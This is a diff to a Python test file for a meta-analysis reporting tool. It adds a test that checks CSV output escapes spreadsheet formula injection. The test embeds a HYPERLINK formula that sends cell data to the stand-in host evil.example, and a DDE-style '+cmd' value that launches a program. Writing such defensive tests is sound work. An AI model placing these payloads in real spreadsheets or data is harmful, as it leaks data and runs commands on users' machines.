@@ -19,7 +19,7 @@ import time
 from pathlib import Path
 
 import pytest
-from hostile_cases import LEAK_PLAN, pain, study, three_leak_studies, write_studies
+from hostile_cases import LEAK_PLAN, leak, pain, study, three_leak_studies, write_studies
 
 from metaanalysis.cli import main
 from metaanalysis.report.output import (
@@ -274,3 +274,21 @@ def test_a_killed_report_run_leaves_the_old_output(tmp_path):
     assert any(p.name.startswith(".out.metaanalysis-tmp-") for p in tmp_path.iterdir())
     run_report(folder, out=out, quiet=True, formats=("svg",))
     assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "studies"]
+
+
+def test_text_from_the_studies_cannot_become_a_spreadsheet_formula(tmp_path):
+    from metaanalysis.records.studies import load_studies
+    from metaanalysis.report.run import effect_size_tables
+    from metaanalysis.report.tables import to_csv_text
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    folder = write_studies(tmp_path / "s", [study("a2020", [dict(leak(3, 40), note=evil)],
+                                                  source="+cmd|' /C calc'!A0")])
+    (_, _, _, table), = effect_size_tables(load_studies(folder))
+    text = to_csv_text(table)
+    assert "'=HYPERLINK" in text and "'+cmd|" in text
+    import csv
+    import io
+
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert evil in {c[1:] for c in cells} and not any(c.startswith(("=", "+", "@")) for c in cells)
